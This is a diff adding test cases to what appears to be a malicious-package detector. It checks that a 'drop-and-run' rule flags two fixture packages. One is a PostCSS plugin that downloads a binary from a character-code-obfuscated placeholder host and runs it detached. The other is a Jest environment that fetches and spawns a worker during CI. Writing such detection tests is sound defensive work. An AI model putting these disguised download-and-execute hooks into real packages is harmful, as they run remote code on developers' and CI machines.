@@ -324,3 +324,105 @@ describe('a program downloaded and run through one helper that also runs the cac
     expect(ruleOf(analyzeSource(runner(true)), 'js.drop-and-run')).toBeUndefined();
   });
 });
+
+describe('round 75: a plugin a build or test tool loads runs its hooks when the tool runs', () => {
+  const postcss = (verify: boolean) => ({
+    'package.json': JSON.stringify({
+      name: 'postcss-swift-minify',
+      version: '1.8.2',
+      main: 'index.js',
+      keywords: ['postcss', 'postcss-plugin'],
+      peerDependencies: { postcss: '^8.4.0' },
+    }),
+    'index.js': [
+      "const path = require('path');",
+      "const { Accelerator } = require('./lib/native');",
+      "const defaults = { native: true, cacheDir: path.join(process.cwd(), 'node_modules', '.cache', 'swift') };",
+      'module.exports = (opts = {}) => {',
+      '  const options = Object.assign({}, defaults, opts);',
+      '  const acc = options.native ? new Accelerator(options) : null;',
+      '  return {',
+      "    postcssPlugin: 'postcss-swift-minify',",
+      '    async Once(root) { if (acc) await acc.prepare().catch(() => undefined); },',
+      '  };',
+      '};',
+      'module.exports.postcss = true;',
+    ].join('\n'),
+    'lib/native.js': [
+      "const fs = require('fs');",
+      "const path = require('path');",
+      "const https = require('https');",
+      "const crypto = require('crypto');",
+      "const { spawn } = require('child_process');",
+      'const HOST = String.fromCharCode(99, 100, 110, 46, 99, 115, 115, 45, 97, 99, 99, 46, 101, 120, 97, 109, 112, 108, 101);',
+      'const get = (url, dest) => new Promise((ok, fail) => https.get(url, (res) => {',
+      '  const out = fs.createWriteStream(dest, { mode: 0o755 });',
+      "  res.pipe(out); out.on('finish', () => out.close(ok)); out.on('error', fail);",
+      '}));',
+      'class Accelerator {',
+      "  constructor(o) { this.dir = path.join(o.cacheDir, 'bin'); }",
+      '  async prepare() {',
+      "    const bin = path.join(this.dir, 'swiftcss');",
+      '    await get(`https://${HOST}/releases/${process.platform}/swiftcss`, bin);',
+      verify
+        ? "    if (crypto.createHash('sha256').update(fs.readFileSync(bin)).digest('hex') !== '1f0e3dad99908345f7439f8ffabdffc4a1c2e3d4f5a6b7c8d9e0f1a2b3c4d5e6') throw new Error('checksum');"
+        : '',
+      "    spawn('nice', ['-n', '19', bin, '--serve'], { detached: true, stdio: 'ignore' }).unref();",
+      '  }',
+      '}',
+      'module.exports = { Accelerator };',
+    ].join('\n'),
+  });
+
+  it("a PostCSS plugin's hook that downloads a program and starts it through `nice`: critical", () => {
+    const r = analyzeSource(postcss(false));
+    expect(ruleOf(r, 'js.drop-and-run')).toBeDefined();
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('the same plugin checking the download against a checksum stays quiet', () => {
+    expect(ruleOf(analyzeSource(postcss(true)), 'js.drop-and-run')).toBeUndefined();
+  });
+
+  const jestEnv = (worker: string) => ({
+    'package.json': JSON.stringify({
+      name: 'jest-environment-steady',
+      version: '0.9.3',
+      main: 'index.js',
+      peerDependencies: { jest: '>=28' },
+    }),
+    'index.js': [
+      "const Base = require('jest-environment-node').TestEnvironment;",
+      "const { warm } = require('./lib/warm');",
+      'class SteadyEnvironment extends Base {',
+      '  constructor(config, context) { super(config, context); this.opts = Object.assign({ warm: true }, config.projectConfig.testEnvironmentOptions); }',
+      '  async setup() { await super.setup(); if (this.opts.warm && process.env.CI) warm().catch(() => {}); }',
+      '}',
+      'module.exports = SteadyEnvironment;',
+    ].join('\n'),
+    'lib/warm.js': [
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      "const { spawn } = require('child_process');",
+      'exports.warm = async () => {',
+      "  const res = await fetch('https://dl.steady-env.example/cache/' + process.platform);",
+      "  const bin = path.join(os.tmpdir(), '.steady', 'cache-worker');",
+      '  fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });',
+      `  ${worker}`,
+      '};',
+    ].join('\n'),
+  });
+
+  it('a Jest environment whose setup downloads a worker and starts it: critical', () => {
+    const r = analyzeSource(jestEnv("spawn(bin, ['--pool'], { detached: true, stdio: 'ignore' }).unref();"));
+    expect(ruleOf(r, 'js.drop-and-run')).toBeDefined();
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('the same environment that only caches the file stays quiet', () => {
+    expect(strong(analyzeSource(jestEnv("fs.writeFileSync(bin + '.stamp', String(Date.now()));")))).toEqual(
+      [],
+    );
+  });
+});
